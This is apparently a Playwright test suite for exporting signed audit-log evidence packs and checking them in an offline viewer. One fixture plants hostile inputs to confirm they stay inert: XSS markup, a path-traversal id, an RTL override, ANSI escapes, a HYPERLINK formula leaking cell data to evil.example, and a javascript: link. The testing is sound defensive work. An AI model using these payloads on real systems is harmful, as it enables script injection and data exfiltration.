"""Pinned events, noted, as a case that is handed over: one ZIP that its receiver checks with our command, or by opening it."""

import json
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Route, expect
from tests.kit.packs import Pack, verified, viewer
from tests.kit.service import House, events
from tests.kit.window import Look, a_look, still

Open = Callable[..., Look]
THREE = ("CreateUser", "AttachPolicyToUser", "StopLogging")
TITLE = "The deploy key leaked"
SUMMARY = "One key, taken from a build log.\n\nWhat it did within twenty minutes."
NOTES = ("A user that nobody asked for.", "An administrator\nwithin half a minute.", "Then it was dark.")
STEPS = ["read", "unpack", "signature", "entry", "path", "root", "record"]


@pytest.fixture(scope="session")
def three(house: House) -> list[str]:
    """The ids of three events of the told intrusion, in the order of time."""
    query = "/v1/search?limit=100&query=(userIdentity.userName%3A%20svc-backup-agent%20or%20userIdentity.userName%3A%20deploy-bot)%20and%20eventRW%3A%20Write"
    found = house.client.request("GET", query, b"", {}).json["events"]
    ids = {
        one["event"]["eventName"]: one["event"]["eventId"]
        for one in found
        if one["event"]["eventName"] in THREE
    }
    return [ids[name] for name in THREE]


def address(ids: list[str]) -> str:
    """The Events page with these pinned; nothing else is asked of it than one search."""
    return "/events?from=-30d&q=eventName%3A%20StopLogging" + "".join(f"&pin={one}" for one in ids)


def fields(page: Page) -> list[Any]:
    """Where notes are written, in the order of the pins, once there is one for each."""
    expect(page.locator(".pins [data-event]")).not_to_have_count(0)
    expect(page.locator(".pin textarea")).to_have_count(page.locator(".pins [data-event]").count())
    return page.locator(".pin textarea").all()


def write(page: Page, notes: tuple[str, ...] = NOTES) -> None:
    """Title, summary and three notes, by keys."""
    expect(page.locator(".pins [data-event]")).to_have_count(3)
    page.evaluate("document.activeElement.blur()")
    page.keyboard.press("Control+j")
    expect(page.get_by_label("Title of the case")).to_be_focused()
    page.keyboard.type(TITLE)
    page.get_by_label("Summary").fill(SUMMARY)
    for field, note in zip(fields(page), notes, strict=True):
        field.fill(note)


def make(page: Page) -> None:
    """Open the dialog by its key, and have the pack made."""
    expect(page.locator(".pins [data-event]")).not_to_have_count(0)
    page.keyboard.press("Control+s")
    expect(page.locator("[data-pack] .ant-btn-primary")).to_be_focused()
    page.keyboard.press("Enter")


@pytest.fixture(scope="module")
def made(
    browser: Browser, house: House, session: Any, three: list[str], tmp_path_factory: pytest.TempPathFactory
) -> Pack:
    """A pack of the three, noted, as it was saved."""
    with a_look(browser, house.running.endpoint, storage_state=session) as window:
        page = window.go(address([three[2], three[0], three[1]]))  # pinned in another order than time's
        write(page, (NOTES[2], NOTES[0], NOTES[1]))
        return Pack.saved(window, lambda: make(page), tmp_path_factory.mktemp("pack"))


def test_a_pack_holds_what_its_receiver_needs_and_every_file_is_what_the_manifest_says(
    made: Pack, house: House, three: list[str]
) -> None:
    """Nothing more, and nothing that the service would tell otherwise."""
    lines = [json.loads(line) for line in made.text("events.ndjson").splitlines()]
    told = [house.client.request("GET", f"/v1/events/{one}", b"", {}).json["event"]["event"] for one in three]
    case = json.loads(made.text("case.json"))
    files = sorted(one for one in made.names() if one.startswith("evidence/"))

    assert made.sums() == made.hashes()
    assert lines == told
    assert made.names() - set(files) == {"README.txt", "index.html", "case.md", "case.json", "events.ndjson", "log/vkey", "manifest.sha256"}  # fmt: skip
    assert [(one["id"], one["note"], one["evidence"], one["sha256"]) for one in case["events"]] == [
        (id_, note, name, made.hashes()[name]) for id_, note, name in zip(three, NOTES, files, strict=True)
    ]
    assert (case["title"], case["summary"], case["account"]) == (TITLE, SUMMARY, house.created.account_id)
    assert made.text("log/vkey").strip() == house.created.vkey
    assert all(note.splitlines()[0] in made.text("case.md") for note in NOTES)


def test_every_evidence_file_verifies_by_the_command_that_the_readme_tells(
    made: Pack, three: list[str]
) -> None:
    """Word for word, in the folder that was unzipped; the key is the pack's own."""
    (command,) = set(re.findall(r"^ +actiontrail (verify .+)$", made.text("README.txt"), re.MULTILINE))
    verify, first, *key = command.split()
    found = []
    for file in sorted((made.folder / "evidence").iterdir()):
        name = file.relative_to(made.folder).as_posix()
        line = [sys.executable, "-m", "actiontrail", verify, name, *key, "--json"]
        done = subprocess.run(line, cwd=made.folder, capture_output=True, text=True, timeout=120, check=False)
        assert done.returncode == 0, done.stdout + done.stderr
        found.append(done.stdout)

    assert all(id_ in told for id_, told in zip(three, found, strict=True))
    assert (made.folder / first).is_file()


def test_the_viewer_verifies_everything_without_network(browser: Browser, made: Pack) -> None:
    """Opened from the disk: title, notes and sentences in the order of time, each step green, and nobody is asked."""
    with viewer(browser, made) as (window, asked):
        page = window.page
        verified(page, "good")
        rows = page.locator(".timeline > li")
        told = [rows.nth(at).inner_text() for at in range(rows.count())]
        page.get_by_text("Verification, step by step").first.click()
        steps = page.locator(".steps").first.locator("li")
        names = [one.get_attribute("data-step") for one in steps.all()]
        green = [one.get_attribute("class") for one in steps.all()]
        page.get_by_text("Fields", exact=True).first.click()
        expect(page.locator("table").first).to_contain_text("svc-backup-agent")
        window.shot("pack-viewer")
        expect(page.locator("h1")).to_have_text(TITLE)
        expect(page.locator(".summary")).to_contain_text("within twenty minutes")
        expect(page.locator("#key-told")).to_contain_text("proves nothing about who signed")
        barriers = window.barriers()

        assert (names, set(green)) == (STEPS, {"holds"})
        assert ["created" in told[0], NOTES[0] in told[0]] == [True, True]
        assert ["AdministratorAccess" in told[1], "switched off the trail" in told[2]] == [True, True]
        assert (barriers, asked, window.complaints) == ([], [], [])


@pytest.mark.parametrize(
    ("name", "options"),
    [
        ("zh", {"locale": "zh-CN"}),
        ("dark", {"color_scheme": "dark"}),
        (
            "zh-dark-narrow",
            {"locale": "zh-CN", "color_scheme": "dark", "viewport": {"width": 390, "height": 1600}},
        ),
        ("narrow", {"viewport": {"width": 390, "height": 1600}}),
    ],
)
def test_the_viewer_is_read_in_each_language_and_look(
    browser: Browser, made: Pack, name: str, options: dict[str, Any]
) -> None:
    """It is read by somebody who never saw the console, on whatever they have at hand."""
    with viewer(browser, made, **options) as (window, _):
        page = window.page
        verified(page, "good")
        page.locator("details summary").nth(1).click()
        window.shot(f"pack-viewer-{name}")
        wide = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
        barriers = window.barriers()
        english = page.get_by_role("button", name="English")
        english.click()
        expect(page.locator("#key-told")).to_contain_text("proves nothing about who signed")
        expect(english).to_be_focused()
        page.get_by_role("button", name="中文").click()
        expect(page.locator("[data-verified]")).to_contain_text("全部得到证明")

        assert (wide <= 0, barriers, window.complaints) == (True, [], [])


def test_the_viewer_on_paper_has_nothing_folded(browser: Browser, made: Pack) -> None:
    """Whoever prints it has the proof on paper, too; and on the screen it is as it was."""
    with viewer(browser, made, color_scheme="dark") as (window, _):
        page = window.page
        verified(page, "good")
        page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
        expect(page.locator("details:not([open])")).to_have_count(0)
        page.emulate_media(media="print")
        window.shot("pack-viewer-print")
        ground = page.evaluate("getComputedStyle(document.body).backgroundColor")
        page.evaluate("window.dispatchEvent(new Event('afterprint'))")

        expect(page.locator("details[open]")).to_have_count(0)
        assert ground == "rgb(255, 255, 255)"


def turned(text: str, at: int) -> str:
    """`text` with another letter of base64 at `at`."""
    return text[:at] + ("A" if text[at] != "A" else "B") + text[at + 1 :]


def in_evidence(which: Callable[[list[str]], int], at: int) -> Callable[[Any], None]:
    """Changes one letter in a line of the second event's evidence."""

    def change(data: Any) -> None:
        lines = data["events"][1]["evidence"].split("\n")
        number = which(lines)
        lines[number] = turned(lines[number], at)
        data["events"][1]["evidence"] = "\n".join(lines)

    return change


def swapped(data: Any) -> None:
    data["events"][1]["evidence"] = data["events"][0]["evidence"]


def claimed(data: Any) -> None:
    data["events"][1]["event"]["eventName"] = "DescribeUsers"


@pytest.mark.parametrize(
    ("name", "change", "step"),
    [
        ("its record", in_evidence(lambda _: 1, 90), ("unpack", "root")),
        ("a hash of its path", in_evidence(lambda lines: lines.index("") - 1, 5), ("root",)),
        (
            "the signed root",
            in_evidence(lambda lines: lines.index("", lines.index("") + 1) - 1, 5),
            ("signature",),
        ),
        ("the signature", in_evidence(lambda lines: len(lines) - 2, 60), ("signature",)),
    ],
)
def test_one_changed_letter_is_red_at_its_step(
    browser: Browser, made: Pack, tmp_path: Path, name: str, change: Callable[[Any], None], step: tuple[str]
) -> None:
    """And only there: the other events are still proved, and the whole is called not proved."""
    pack = copied(made, tmp_path)
    pack.altered(change)
    with viewer(browser, pack) as (window, _):
        page = window.page
        verified(page, "bad")
        kinds = [one.get_attribute("data-proved") for one in page.locator(".timeline > li").all()]
        failing = page.locator(".timeline > li").nth(1).locator(".steps > .fails")
        expect(failing).to_be_visible()
        expect(page.locator("[data-verified]")).to_contain_text("Not proved: 1 of 3")
        window.shot(f"pack-viewer-bad-{name.replace(' ', '-')}")

        assert (kinds, failing.get_attribute("data-step") in step) == (["good", "bad", "good"], True)
        assert window.barriers() == []


def copied(pack: Pack, to: Path) -> Pack:
    return Pack(Path(shutil.copytree(pack.folder, to / pack.folder.name)))


def test_evidence_of_another_event_and_a_claim_that_is_not_the_record_deceive_nobody(
    browser: Browser, made: Pack, tmp_path: Path
) -> None:
    """Each evidence is true by itself: what is shown as the event is what its record says."""
    pack = copied(made, tmp_path)
    pack.altered(claimed)
    with viewer(browser, pack) as (window, _):
        verified(window.page, "good")
        expect(window.page.locator(".timeline > li").nth(1)).to_contain_text("AdministratorAccess")
    pack.altered(swapped)
    with viewer(browser, pack) as (window, _):
        verified(window.page, "bad")
        expect(window.page.locator(".timeline > li").nth(1)).to_contain_text(
            "The evidence is of another event"
        )


def test_the_key_that_somebody_gives_decides(browser: Browser, made: Pack, house: House) -> None:
    """Another log's key proves nothing, the right one from elsewhere does, and the page says which it was."""
    other = "elsewhere.example+5b7ea4ce+AXjNFBKGVLwFWLUzqeOWuFnR3ZzRnDFv8PLXdG7XEaaK"
    with viewer(browser, made) as (window, _):
        page = window.page
        verified(page, "good")
        expect(page.locator("[data-verified]")).to_contain_text("the key from this pack")
        page.get_by_label("key to trust").fill("no key at all")
        page.keyboard.press("Enter")
        verified(page, "bad")
        expect(page.locator(".fails").first).to_contain_text("not a verifier key")
        page.get_by_label("key to trust").fill(other)
        page.get_by_role("button", name="Verify").click()
        verified(page, "bad")
        assert {one.get_attribute("data-step") for one in page.locator(".fails").all()} == {"signature"}
        page.get_by_label("key to trust").fill(f"  {house.created.vkey} ")
        page.get_by_role("button", name="Verify").click()
        verified(page, "good")


def test_a_browser_without_cryptography_is_told_to_have_verified_nothing(
    browser: Browser, made: Pack
) -> None:
    """Not green, and not red either: it says what is missing, and what to do."""
    with viewer(browser, made) as (window, _):
        window.page.add_init_script("Object.defineProperty(globalThis, 'crypto', {value: {}})")
        window.page.reload()
        verified(window.page, "warn")
        expect(window.page.locator("[data-verified]")).to_contain_text("actiontrail verify")
        expect(window.page.locator("[data-proved=open]")).to_have_count(3)


def test_a_page_whose_data_is_none_says_so(browser: Browser, made: Pack, tmp_path: Path) -> None:
    """Cut off, or of another kind: there is no half of a page."""
    pack = copied(made, tmp_path)
    pack.altered(lambda data: data.update(events=[{"id": 1}]))
    with viewer(browser, pack) as (window, _):
        expect(window.page.get_by_role("alert")).to_contain_text("no evidence pack that it can read")
        assert window.complaints == []


MARKUP = "<img src=x onerror=alert(1)></script><script>alert(2)</script><!--"
RTL, ANSI = "\u202egnp.exe", "\u001b[31mred\u001b[0m"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
HOSTILE_ID = f"../../{MARKUP}"
ALIVE = """() => [document.querySelectorAll('img, iframe, a, script:not([type]) ~ script').length, /[\\u202a-\\u202e\\u2066-\\u2069\\u001b]/.test(document.body.innerText)]"""


@pytest.fixture(scope="session")
def hostile(house: House) -> str:
    """An event with something hostile in every field, its own id included."""
    body = events(
        HOSTILE_ID, eventTime="2026-01-02T03:04:05Z", eventName=f"Delete{MARKUP}", serviceName="HostilePack",
        sourceIpAddress=f"203.0.113.9{RTL}", userAgent=FORMULA, errorCode=f"{ANSI}{MARKUP}", errorMessage=FORMULA,
        userIdentity={"userName": f"{MARKUP}{RTL}{ANSI}", "type": "ram-user"}, resourceType=f"ACS::{MARKUP}", resourceName=f"i-{MARKUP}",
        requestParameters={"a": FORMULA, MARKUP: MARKUP, RTL: "y", "n": "x" * 20_000},
    )  # fmt: skip
    assert house.client.post("/v1/events", body, content_type="application/x-ndjson").status == 200
    found = "/v1/histogram?query=serviceName%3A%20HostilePack"
    house.running.until(
        lambda: house.client.request("GET", found, b"", {}).json["total"] == 1, "it is searchable"
    )
    return HOSTILE_ID


def test_whatever_an_event_or_a_note_says_is_text_in_the_pack_and_its_viewer(
    look: Open, browser: Browser, hostile: str, tmp_path: Path
) -> None:
    """No file leaves its folder, nothing runs, nothing is loaded, and every byte of it is still there."""
    window = look("/events?from=&q=serviceName%3A%20HostilePack")
    page = window.page
    page.locator(".list .row").wait_for()
    page.evaluate("document.activeElement.blur()")
    for key in ("j", "p"):
        page.keyboard.press(key)
    expect(page.locator(".pins [data-event]")).to_have_count(1)
    page.keyboard.press("Control+j")
    page.get_by_label("Title of the case").fill(f"{FORMULA}{MARKUP}{RTL}")
    fields(page)[0].fill(f"{MARKUP}\n{RTL}\n![x](http://evil.example/x.png) [l](javascript:alert(1))")
    page.get_by_role("button", name="Done writing").click()
    expect(page.locator(".pins .case-text")).to_contain_text("U+202E")
    assert page.evaluate(ALIVE)[1] is False
    pack = Pack.saved(window, lambda: make(page), tmp_path)
    (evidence,) = (one for one in pack.names() if one.startswith("evidence/"))

    assert re.fullmatch(r"evidence/01-[\w-]+\.tlog-proof", evidence)
    assert pack.sums() == pack.hashes()
    assert json.loads(pack.text("events.ndjson"))["eventName"] == f"Delete{MARKUP}"
    assert json.loads(pack.text("case.json"))["title"] == f"{FORMULA}{MARKUP}{RTL}"
    assert not re.search(r"[\u202a-\u202e\u001b]|(?<!\\)[<\[]|(?<!\\)!\\?\[", pack.text("case.md"))
    assert "\u202e" not in pack.text("README.txt")
    with viewer(browser, pack) as (opened, asked):
        dialogs: list[str] = []
        opened.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        verified(opened.page, "good")
        opened.page.evaluate("document.querySelectorAll('details').forEach(one => (one.open = true))")
        expect(opened.page.locator("table")).to_contain_text("U+202E")
        opened.page.get_by_role("button", name="Show all 20000 characters").click()
        opened.shot("pack-viewer-hostile")
        assert (opened.page.evaluate(ALIVE), dialogs, asked, opened.complaints) == ([0, False], [], [], [])
    assert window.complaints == []


class Downloads:
    """What the browser saved from here on."""

    def __init__(self, page: Page) -> None:
        self.names: list[str] = []
        page.on("download", lambda one: self.names.append(one.suggested_filename))


def waiting(window: Look, three: list[str]) -> list[Route]:
    """Proofs of the last event that wait for their answer."""
    held: list[Route] = []

    def hold(route: Route) -> None:
        held.append(route)

    window.context.route(f"**/v1/proof/{three[2]}", hold)
    return held


@pytest.mark.parametrize("way", ["the button", "Escape"])
def test_what_is_cancelled_midway_saves_nothing(look: Open, three: list[str], way: str) -> None:
    """Also when the answer that was waited for comes after all."""
    window = look(address(three))
    page = window.page
    saved = Downloads(page)
    held = waiting(window, three)
    make(page)
    expect(page.locator("[data-pack]")).to_have_attribute("data-pack", "fetching")
    for _ in range(400):
        if held:
            break
        page.wait_for_timeout(50)
    window.shot("pack-fetching")
    if way == "Escape":
        page.keyboard.press("Escape")
        expect(page.locator("dialog")).to_have_count(0)
    else:
        page.get_by_role("button", name="Cancel").click()
        expect(page.locator("dialog .ant-alert")).to_contain_text("nothing was saved")
    window.context.unroute(f"**/v1/proof/{three[2]}")  # which lets go of what is held
    still(page)

    assert (len(held), saved.names, window.complaints) == (1, [], [])


def test_a_call_that_fails_is_told_and_tried_again(look: Open, three: list[str], tmp_path: Path) -> None:
    """In the one part that tells of failures; the second try makes the pack."""
    window = look(address(three))
    page = window.page
    saved = Downloads(page)
    fault = {"Code": "ServiceUnavailable", "Message": "no.", "RequestId": "REQUEST-OF-THE-PROOF"}
    window.context.route(f"**/v1/proof/{three[1]}", lambda route: route.fulfill(status=503, json=fault))
    make(page)
    failed = page.locator("dialog .failed")
    expect(failed).to_contain_text("REQUEST-OF-THE-PROOF")
    window.shot("pack-failed")
    barriers = window.barriers()
    assert saved.names == []
    window.context.unroute(f"**/v1/proof/{three[1]}")
    pack = Pack.saved(window, lambda: failed.get_by_role("button", name="again").click(), tmp_path)

    assert pack.sums() == pack.hashes()
    assert (len(pack.data()["events"]), barriers, window.complaints) == (3, [], [])


@pytest.mark.parametrize(
    ("missing", "reason", "said"),
    [("proof", "unproved", "not provable yet"), ("events", "gone", "not there")],
)
def test_what_is_missing_is_told_before_anything_is_saved(
    look: Open, browser: Browser, three: list[str], tmp_path: Path, missing: str, reason: str, said: str
) -> None:
    """Nothing is left out but by the person's word, and then the pack tells of it."""
    window = look(address(three))
    page = window.page
    saved = Downloads(page)
    pattern = f"**/v1/{missing}/{three[1]}"
    page.locator(".pins [data-event]").nth(2).wait_for()
    window.context.route(pattern, lambda route: route.fulfill(status=404, json={"Code": "NoSuchEvent"}))
    make(page)
    told = page.locator(f'[data-left="{reason}"]')
    expect(told).to_contain_text(three[1])
    expect(told).to_contain_text(said)
    window.shot(f"pack-missing-{reason}")
    assert (saved.names, window.barriers()) == ([], [])
    pack = Pack.saved(
        window, lambda: page.get_by_role("button", name="Save it without them").click(), tmp_path
    )
    left = json.loads(pack.text("case.json"))["left"]

    assert [one["id"] for one in pack.data()["events"]] == [three[0], three[2]]
    assert [(one["id"], one["reason"]) for one in left] == [(three[1], reason)]
    with viewer(browser, pack) as (opened, _):
        verified(opened.page, "good")
        expect(opened.page.locator(".left")).to_contain_text(three[1])


def test_evidence_that_does_not_hold_does_not_go_in(look: Open, three: list[str]) -> None:
    """The page verifies each before it packs it, and says what is wrong with it."""
    window = look(address(three))
    page = window.page
    saved = Downloads(page)

    def forge(route: Route) -> None:
        lines = route.fetch().body().decode().split("\n")
        at = lines.index("") - 1
        route.fulfill(body="\n".join([*lines[:at], turned(lines[at], 5), *lines[at + 1 :]]))

    window.context.route(f"**/v1/proof/{three[1]}", forge)
    make(page)

    expect(page.locator('[data-left="false"]')).to_contain_text("the record was altered")
    assert saved.names == []


def test_notes_outlive_a_reload_another_account_and_an_unpinning(look: Open, three: list[str]) -> None:
    """They are this browser's, account by account; they are never in the address; deleting asks first."""
    window = look(address(three))
    page = window.page
    write(page)
    assert not any(part in page.url for part in ("deploy", "nobody"))
    page.reload()
    expect(page.locator(".pins .case-title")).to_have_text(TITLE)
    expect(page.locator(".pins [data-note]")).to_have_count(3)

    def other(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, json=answer.json() | {"account": "1000000000000999"})

    window.context.route("**/v1/session", other)
    page.reload()
    expect(page.locator(".pins [data-event]")).to_have_count(3)
    expect(page.locator(".pins [data-note], .pins .case-title")).to_have_count(0)
    window.context.unroute("**/v1/session")
    page.reload()
    expect(page.locator(".pins [data-note]")).to_have_count(3)

    page.locator(".pins .chip-remove").nth(1).click()
    expect(page.locator(".pins [data-note]")).to_have_count(2)
    page.get_by_role("button", name="Pin them again").click()
    expect(page.locator(".pins [data-note]")).to_have_count(3)
    page.get_by_role("button", name="Unpin all").click()
    expect(page.locator(".pins")).to_have_count(0)
    expect(page.locator(".case-over")).to_contain_text("3 notes are kept")
    page.get_by_role("button", name="Delete these notes").click()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Pin them again").click()
    expect(page.locator(".pins [data-note]")).to_have_count(3)
    page.get_by_role("button", name="Unpin all").click()
    page.get_by_role("button", name="Delete these notes").click()
    page.keyboard.press("Enter")
    expect(page.locator(".case-over")).to_have_count(0)
    assert window.complaints == []


def test_two_windows_of_one_browser_write_into_one_case(look: Open, three: list[str]) -> None:
    """Neither writes over what the other wrote, and each shows it."""
    window = look(address(three))
    first, second = window.page, window.context.new_page()
    write(first)
    second.goto(first.url)
    expect(second.locator(".pins .case-title")).to_have_text(TITLE)
    second.evaluate("document.activeElement.blur()")
    second.keyboard.press("Control+j")
    fields(second)[1].fill("From the other window.")
    expect(first.locator(".pin textarea").nth(1)).to_have_value("From the other window.")
    fields(first)[0].fill("And from this one.")

    expect(second.locator(".pin textarea").nth(0)).to_have_value("And from this one.")
    expect(second.locator(".pin textarea").nth(1)).to_have_value("From the other window.")
    assert window.complaints == []


def test_a_browser_that_keeps_nothing_says_so_and_still_packs_the_notes(
    look: Open, three: list[str], tmp_path: Path
) -> None:
    """What was written is lost with the page: that is told at once, not found out later."""
    window = look("/settings")
    window.page.add_init_script(
        "Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); }"
    )
    window.page.reload()
    page = window.go(address(three))
    write(page)
    expect(page.locator(".pins .ant-alert")).to_contain_text("does not keep")
    pack = Pack.saved(window, lambda: make(page), tmp_path)

    assert [one["note"] for one in pack.data()["events"]] == list(NOTES)


@pytest.mark.parametrize(
    ("name", "options"),
    [
        ("light", {}),
        ("zh-dark", {"locale": "zh-CN", "color_scheme": "dark"}),
        ("zh-narrow", {"locale": "zh-CN", "viewport": {"width": 390, "height": 844}}),
        ("dark-narrow", {"color_scheme": "dark", "viewport": {"width": 390, "height": 844}}),
    ],
)
def test_a_case_is_written_in_each_language_and_look(
    look: Open, three: list[str], name: str, options: dict[str, Any]
) -> None:
    """Writing, what is written, and the dialog: nobody is kept out, and nothing is wider than the window."""
    window = look(address(three), **options)
    page = window.page
    expect(page.locator(".pins [data-event]")).to_have_count(3)
    still(page)
    page.evaluate("document.activeElement.blur()")
    page.keyboard.press("Control+j")
    page.locator(".case-form input").fill(TITLE)
    for field, note in zip(fields(page), NOTES, strict=True):
        field.fill(note)
    still(page)
    window.shot(f"case-writing-{name}")
    barriers = window.barriers()
    page.evaluate("document.activeElement.blur()")
    page.keyboard.press("Control+j")
    expect(page.locator(".case-form")).to_have_count(0)
    window.shot(f"case-written-{name}")
    barriers += window.barriers()
    page.keyboard.press("Control+s")
    with page.expect_download():
        page.locator("[data-pack] .ant-btn-primary").click()
    expect(page.locator("[data-pack]")).to_have_attribute("data-pack", "saved")
    page.mouse.move(0, 0)
    expect(page.locator("[data-pack] .hash")).to_have_count(2)
    still(page)
    window.shot(f"pack-saved-{name}")
    barriers += window.barriers()
    wide = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")

    assert (wide <= 0, barriers, window.complaints) == (True, [], [])
